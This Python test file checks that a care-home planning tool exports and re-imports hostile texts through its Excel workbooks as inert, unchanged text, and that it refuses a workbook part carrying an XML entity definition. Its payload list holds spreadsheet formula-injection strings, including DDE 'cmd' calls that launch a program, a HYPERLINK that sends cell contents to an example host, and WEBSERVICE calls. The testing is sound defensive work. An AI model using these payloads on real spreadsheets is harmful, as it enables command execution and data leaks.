"""Texts that mean harm go out in a plan's workbook and come back: equal, and inert on the way."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest

from pqmodel.ground.cycle import parse
from pqmodel.plan.editable_fields import FIELDS
from pqmodel.plan.exporting import export_plan
from pqmodel.plan.further_fields import CHOICES, DAYS
from pqmodel.plan.importing import import_plan
from pqmodel.plan.model import Plan
from pqmodel.plan.record import read_plan, write_plan
from pqmodel.plan.updating_workbook import update_workbook
from pqmodel.service.setting_up import set_up_service
from pqmodel.workbook.foreign.archive import open_archive
from pqmodel.workbook.text import seen
from pqmodel.workspace.workspace import Workspace
from tests.factories.books import action
from tests.factories.editing import Editor
from tests.factories.office import needs_office, saved_by_office

pytestmark = pytest.mark.slow

CYCLE, TODAY = parse("2026-Q4"), date(2026, 11, 21)
LONG = 32_767
HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"Click me")', "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")', "{=1+1}", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "''quoted",
    "\t=1+1", "a\tb", "\n=1+1", "two\nlines\nand three", "line\r\nends\rof all kinds", " leads with a space",
    "ends with spaces   ", "\u00a0=1+1", "\u200b=1+1", "control \x00\x01\x07\x1f characters",
    "\ufeffmark", "broken \ufffd",
    "_x0041_ _x000D_ _x005F_",
    "#REF!", "#N/A", "TRUE", "007", "1/2", "1E5", "12:30", "2027-01-02",
    "£5 & <b>not bold</b>]]>",
    "‮right to left‬ مدير الرعاية עברית", "👩‍⚕️🏳️‍🌈🇬🇧 e\u0301", "z" * LONG, "🙂" * (LONG // 2),
    "=" * LONG, "y" * (LONG + 5_000),
    "</t></is></c><c><f>1+1</f></c>", "{{service}} ${7*7} %00 \\u0041",
]  # fmt: skip
# The other fields hold a day, a number or one of a few words: they take no text.
NO_TEXTS = {"title", "target", "start", "due", "status", "steps"} | DAYS | CHOICES.keys()
TEXTS = [name for name in FIELDS if name not in NO_TEXTS]


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    made = set_up_service(tmp_path / "s", "=Rose & <House>", "Care home", [])
    actions = tuple(
        action(number, title=f"{text}!", statements=(), scores_then={}, steps=(text, "then stop"))
        .model_copy(update=dict.fromkeys(TEXTS, text))
        for number, text in enumerate(HOSTILE, 1)
    )  # fmt: skip
    write_plan(made, Plan(actions=actions, last_number=len(actions)), read_plan(made)[1])
    return made


def no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name)
                assert b"<f " not in archive.read(name)


def nothing_differs(workspace: Workspace, path: Path) -> None:
    before = (workspace.root / "plan.yaml").read_bytes()
    done = import_plan(workspace, path, CYCLE, TODAY)
    assert (done.faults, done.merged.edits, done.merged.conflicts, done.merged.kept) == (
        (),
        (),
        (),
        (),
    )
    assert (done.merged.added, done.merged.deleted, done.stopped) == ((), (), False)
    assert (workspace.root / "plan.yaml").read_bytes() == before


def test_there_are_forty_of_them() -> None:
    assert len(set(HOSTILE)) >= 40


def test_they_come_back_equal_and_are_inert(workspace: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    export_plan(workspace, CYCLE, path, TODAY)
    no_formulas(path)
    nothing_differs(workspace, path)


@needs_office
def test_libreoffice_in_between_changes_nothing(workspace: Workspace, tmp_path: Path) -> None:
    export_plan(workspace, CYCLE, tmp_path / "plan.xlsx", TODAY)
    saved = saved_by_office(tmp_path / "plan.xlsx", tmp_path)
    no_formulas(saved)
    nothing_differs(workspace, saved)


def test_openpyxl_in_between_changes_nothing_that_it_does_not_change_itself(
    workspace: Workspace, tmp_path: Path
) -> None:
    # It takes the codes for characters out of texts that several cells may share.
    plan, stamp = read_plan(workspace)
    kept = tuple(one for one in plan.actions if "_x0041_" not in one.title)
    write_plan(workspace, plan.model_copy(update={"actions": kept}), stamp)
    path = tmp_path / "plan.xlsx"
    export_plan(workspace, CYCLE, path, TODAY)
    with Editor(path):
        pass
    no_formulas(path)
    nothing_differs(workspace, path)


def test_they_are_written_into_somebody_s_own_workbook_just_as_safely(
    workspace: Workspace, tmp_path: Path
) -> None:
    path = tmp_path / "plan.xlsx"
    plan, stamp = read_plan(workspace)
    write_plan(workspace, plan.model_copy(update={"actions": plan.actions[:3]}), stamp)
    export_plan(workspace, CYCLE, path, TODAY)
    changed, stamp = read_plan(workspace)
    write_plan(workspace, changed.model_copy(update={"actions": plan.actions[::-1]}), stamp)
    update_workbook(workspace, path, CYCLE, TODAY)
    no_formulas(path)
    nothing_differs(workspace, path)


def test_typed_into_the_workbook_they_are_taken_in_as_they_are(
    workspace: Workspace, tmp_path: Path
) -> None:
    texts = [text for text in HOSTILE if seen(text) == text and len(text) < LONG]
    path = tmp_path / "plan.xlsx"
    plan, stamp = read_plan(workspace)
    actions = tuple(action(number) for number in range(1, len(texts) + 1))
    write_plan(workspace, plan.model_copy(update={"actions": actions}), stamp)
    export_plan(workspace, CYCLE, path, TODAY)
    with Editor(path) as sheet:
        for number, text in enumerate(texts, 1):
            cell = sheet.cell(f"A-{number:03d}", "Progress")
            cell.value = text.replace("_x", "_x005F_x")
            cell.data_type = "s"
    assert import_plan(workspace, path, CYCLE, TODAY).saved
    assert [action.progress for action in read_plan(workspace)[0].actions] == [
        text.rstrip() for text in texts
    ]


def test_a_workbook_that_brings_definitions_of_its_own_is_refused(
    workspace: Workspace, tmp_path: Path
) -> None:
    path = tmp_path / "plan.xlsx"
    export_plan(workspace, CYCLE, path, TODAY)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb">]><worksheet><sheetData/></worksheet>'
    )
    parts["xl/worksheets/sheet2.xml"] = bomb
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    from pqmodel.ground.faults import PqmodelError

    assert open_archive(path.read_bytes(), "plan.xlsx")
    with pytest.raises(PqmodelError, match="cannot be used"):
        import_plan(workspace, path, CYCLE, TODAY)
